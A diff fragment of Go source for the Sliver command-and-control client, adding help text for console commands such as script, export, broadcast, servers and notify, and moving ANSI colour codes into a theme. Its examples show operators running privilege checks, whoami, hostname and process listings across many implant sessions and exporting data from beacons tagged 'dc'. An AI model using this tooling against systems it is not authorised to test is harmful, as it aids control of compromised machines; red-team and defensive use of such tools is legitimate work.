+	scriptHelp = `[[.Bold]]Command:[[.Normal]] script <operation>
+[[.Bold]]About:[[.Normal]] Automate the console with scripts. Scripts are Go text/templates kept in ~/.sliver-client/scripts/
+with a .sliver extension, so they can be shared by copying the file. Whatever a script prints goes to the console.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]ls [[.Normal]] - List the scripts in the scripts directory
+[[.Bold]]run[[.Normal]] - Run a script, specified by <name> or <file path>, the remaining arguments are passed to the script as .Args
+
+[[.Bold]][[.Underline]]++ Functions ++[[.Normal]]
+[[.Bold]]run <command> <args...> [[.Normal]] - Run a console command and return its output without colors
+[[.Bold]]exec <command> <args...>[[.Normal]] - Run a console command and print its output
+[[.Bold]]use <id or name>        [[.Normal]] - Switch the active session or beacon
+[[.Bold]]active                  [[.Normal]] - The active session, if any
+[[.Bold]]sessions / beacons      [[.Normal]] - All sessions / beacons
+[[.Bold]]tasks <beacon id>       [[.Normal]] - The tasks of a beacon
+[[.Bold]]wait <event> <timeout>  [[.Normal]] - Wait for an event, e.g. "connected", "beacon-registered", or "beacon-taskresult"
+[[.Bold]]sleep <duration>        [[.Normal]] - Pause the script, e.g. "30s"
+[[.Bold]]info / warn <format>    [[.Normal]] - Print a status line
+String helpers: contains, hasPrefix, hasSuffix, lower, upper, trim, split, join, fields, lines
+
+A function that fails, e.g. a console command returning an error, stops the script.
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+Check privileges on every Windows session (~/.sliver-client/scripts/privs.sliver):
+
+	{{ range sessions }}{{ if eq .OS "windows" }}
+	{{ use .Name }}{{ exec "getprivs" }}
+	{{ end }}{{ end }}
+
+	script run privs
+
+Wait for a session and list its home directory:
+
+	{{ $event := wait "connected" "10m" }}{{ use $event.Session.Name }}{{ exec "ls" (index .Args 0) }}
+
+	script run ./wait-ls.sliver /home
+`
+
+	exportHelp = `[[.Bold]]Command:[[.Normal]] export <options> <data>
+[[.Bold]]About:[[.Normal]] Export data for reports or offline analysis as JSON (default) or CSV, printed or saved with --save.
+Sessions, beacons, and tasks can be narrowed down with the same filters as 'sessions' and 'beacons'.
+
+[[.Bold]][[.Underline]]++ Data ++[[.Normal]]
+[[.Bold]]sessions[[.Normal]] - Session metadata
+[[.Bold]]beacons [[.Normal]] - Beacon metadata
+[[.Bold]]tasks   [[.Normal]] - Beacon tasks of --beacon, the active beacon, or all beacons, completed tasks include their result
+[[.Bold]]history [[.Normal]] - Your console command history
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+Export all Windows sessions as CSV:
+	export --format csv --os windows --save sessions.csv sessions
+
+Export the tasks of every beacon tagged "dc":
+	export --tag dc --save dc-tasks.json tasks
+
+The listing commands sessions, beacons, tasks, jobs, loot, ls, ps, netstat, and ifconfig also take --format json or
+--format csv to print what they list the same way, e.g. to pipe it into other tools:
+	ps --format csv > processes.csv
+`
+
+	timeoutHelp = `[[.Bold]]Command:[[.Normal]] timeout [seconds]
+[[.Bold]]About:[[.Normal]] Show or set how long commands wait for the implant when they are run without --timeout, 0 restores
+the built-in default. The setting is saved to ~/.sliver-client/settings.json.
+
+A request that times out returns an error instead of waiting on a dead connection, including when the request could not be
+sent at all. Implants are told to drop the result of a request that timed out, the command itself can't be interrupted.
+Beacon tasks are not cancelled, they stay queued and their result can be fetched later with 'tasks fetch'.`
+
+	transfersHelp = `[[.Bold]]Command:[[.Normal]] transfers
+[[.Bold]]About:[[.Normal]] List the envelopes of 64 KiB or more that are moving between the server and a session, with the
+bytes and chunks moved so far. Uploads, downloads and process dumps show the same progress while the command runs.
+
+Progress is also published as "transfer-progress" events, so other clients can follow it over the API.`
+
+	broadcastHelp = `[[.Bold]]Command:[[.Normal]] broadcast [--all | --group <tag>] <command> [args...]
+[[.Bold]]About:[[.Normal]] Run a command on several sessions at once. The command's request is sent to every selected session
+concurrently, then a table shows the status, time, and first line of output of each session followed by the full
+output of each session (unless --quiet). Groups are session tags, see 'help tag'.
+
+Flags must come before the command, everything after it is passed to the command. Only commands that send a request
+to the session can be broadcast, beacons are not included.
+
+[[.Bold]]Examples:[[.Normal]]
+	broadcast --all whoami
+	broadcast --group dc execute -o hostname
+	broadcast --all --quiet ps > ps.txt`
+
+	serversHelp = `[[.Bold]]Command:[[.Normal]] servers [ls | connect | use | disconnect | import] <profile>
+[[.Bold]]About:[[.Normal]] Work with more than one teamserver from the same console. Each config file in
+~/.sliver-client/configs is a profile named after the file (e.g. operator_10.0.0.1), new ones are added with
+'servers import' or the client's -import flag.
+
+The console stays connected to every server it connects to and sends its commands to the active one, which is shown in
+the prompt once there is more than one connection. Each server remembers its own active session or beacon. Events from
+the other servers are still printed, tagged with the profile name.
+
+[[.Bold]][[.Underline]]++ Subcommands ++[[.Normal]]
+	ls                      List profiles and their connection status (default)
+	connect <profile>       Connect to a profile and make it the active server
+	use <profile>           Make an existing connection the active server
+	disconnect <profile>    Close a connection, the active server can't be disconnected
+	import <config file>    Save an operator config file as a profile`
+
+	notifyHelp = `[[.Bold]]Command:[[.Normal]] notify [bell | command | events | test | off] <value>
+[[.Bold]]About:[[.Normal]] Get notified when sessions open or are lost and when beacon tasks complete, without watching the
+console. Notifications are off until the bell or a command is turned on, the settings are saved to
+~/.sliver-client/settings.json. Events from every connected server are included, see 'help servers'.
+
+The command is run with the title and message as its last two arguments, and the event type and server profile in the
+SLIVER_EVENT and SLIVER_SERVER environment variables.
+
+[[.Bold]][[.Underline]]++ Subcommands ++[[.Normal]]
+	bell on|off             Ring the terminal bell
+	command <command>|off   Run a command, e.g. to show a desktop notification
+	events <event,...>      Events to notify about, 'default' for connected, disconnected, beacon-taskresult
+	                        (also available: beacon-registered, canary)
+	test                    Send a test notification
+	off                     Turn notifications off
+
+[[.Bold]]Examples:[[.Normal]]
+	notify command notify-send
+	notify command /opt/scripts/page-me.sh
+	notify events connected,canary`
 	psExecHelp = `[[.Bold]]Command:[[.Normal]] psexec <target>
 [[.Bold]]About:[[.Normal]] Start a new sliver as a service on a remote target.
 `
@@ -370,23 +1362,45 @@ Each command will have the [[.Bold]]--process[[.Normal]] flag defined, which all
 )
 
 const (
-	// ANSI Colors
-	normal    = "\033[0m"
-	black     = "\033[30m"
-	red       = "\033[31m"
-	green     = "\033[32m"
-	orange    = "\033[33m"
-	blue      = "\033[34m"
-	purple    = "\033[35m"
-	cyan      = "\033[36m"
-	gray      = "\033[37m"
-	bold      = "\033[1m"
-	clearln   = "\r\x1b[2K"
-	upN       = "\033[%dA"
-	downN     = "\033[%dB"
-	underline = "\033[4m"
+	// ANSI cursor controls, these don't change with the theme
+	clearln = "\r\x1b[2K"
+	upN     = "\033[%dA"
+	downN   = "\033[%dB"
 )
 
+var (
+	// ANSI Colors, set by the active theme
+	normal    string
+	black     string
+	red       string
+	green     string
+	orange    string
+	blue      string
+	purple    string
+	cyan      string
+	gray      string
+	bold      string
+	underline string
+)
+
+func init() {
+	theme.OnApply(loadTheme)
+}
+
+func loadTheme(t *theme.Theme) {
+	normal = t.Normal
+	black = t.Black
+	red = t.Red
+	green = t.Green
+	orange = t.Orange
+	blue = t.Blue
+	purple = t.Purple
+	cyan = t.Cyan
+	gray = t.Gray
+	bold = t.Bold
+	underline = t.Underline
+}
+
 // GetHelpFor - Get help string for a command
 func GetHelpFor(cmdName string) string {
 	if 0 < len(cmdName) {